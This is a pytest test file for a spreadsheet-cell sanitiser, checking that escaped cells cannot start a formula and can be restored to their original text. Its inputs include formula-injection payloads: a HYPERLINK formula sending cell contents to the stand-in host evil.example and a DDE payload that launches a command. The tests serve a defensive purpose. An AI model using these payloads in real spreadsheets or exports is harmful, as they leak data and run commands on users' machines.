"""Cells that no spreadsheet takes for a formula."""

import re

import pytest

from plugins.text.cells import as_written, harmless


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝1",
        "'=1",
        "''+1",
        "a;=1+1",
        "a\n=1+1",
        "a\r\n-1",
        "a\t@x",
        ";=1",
        "'",
        "''",
        "a=b",
        "60/2014/QH13",
        "- Tờ khai\n- Căn cước",
    ],
)
def test_no_cell_is_a_formula_and_each_can_be_had_as_it_was_written(cell):
    written = harmless(cell)
    assert not re.search(r"(?:^|[;\t\r\n])[=+\-@＝＋－＠]", written)
    assert written[:1] not in "\t\r" or not cell
    assert as_written(written) == cell
